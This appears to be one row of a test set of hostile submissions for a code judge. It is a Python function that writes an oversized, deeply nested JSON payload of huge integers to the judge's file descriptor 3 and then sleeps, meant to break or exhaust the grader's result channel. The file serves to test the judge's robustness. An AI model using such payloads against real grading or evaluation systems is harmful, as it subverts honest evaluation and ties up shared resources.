# row: C15
# attack: the same as keys, nested in a list
# problem: split judge
# verdict: wrong_answer runtime_error output_limit time_limit
import os, json, time
def f(x):
    step = (1 << 61) - 1
    keys = [[{"tuple": [n * step]}, 0] for n in range(1, 40_000)]
    data = json.dumps({"value": [{"dict": keys}]}).encode()
    data = len(data).to_bytes(4, "big") + data
    while data:
        data = data[os.write(3, data):]
    time.sleep(60)
